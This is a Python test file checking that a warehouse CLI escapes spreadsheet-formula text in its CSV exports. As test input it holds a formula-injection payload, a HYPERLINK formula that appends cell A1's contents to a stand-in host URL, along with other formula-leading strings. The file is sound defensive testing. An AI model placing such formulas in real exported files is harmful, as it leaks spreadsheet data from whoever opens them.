"""Text that would run as a spreadsheet formula is escaped in every CSV/XLSX the project writes
(warehouse/formulas.py): `fazhi indicators --format csv` once printed `=HYPERLINK(…)` as is."""

from __future__ import annotations

import csv
import io
import os
import shutil

import duckdb
import pytest

from tests.processes import fazhi
from warehouse.formulas import neutralise

LINK = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LINK, "'" + LINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("贡川镇", "贡川镇"),
        (">=", ">="),
        (-0.5, -0.5),  # a number stays a number
        (None, None),
    ],
)
def test_formula_starts_are_escaped_and_the_rest_is_kept(value, written):
    assert neutralise(value) == written


def test_indicators_csv_escapes_text_that_would_run_as_a_formula(tmp_path, mini_run):
    home = tmp_path / "home"
    shutil.copytree(mini_run.settings.home, home, symlinks=True)
    con = duckdb.connect(str(home / "published" / "fazhi.duckdb"))
    con.execute("update mart.indicator_value set township_name = ? where township_name = '贡川镇'", [LINK])
    con.execute("update mart.indicator_value set indicator_name_zh = '@SUM(1+1)' where indicator_code = 'ENF01'")
    con.close()
    done = fazhi("indicators", "--year", "2023", "--format", "csv", "--home", str(home), env=dict(os.environ))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    linked = [r for r in rows if r["township_code"] == "350481101"]
    assert linked and {r["township_name"] for r in linked} == {"'" + LINK}
    enf01 = next(r for r in linked if r["indicator_code"] == "ENF01")
    assert enf01["indicator_name_zh"] == "'@SUM(1+1)" and enf01["value"] == "3"  # the figure itself untouched
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)
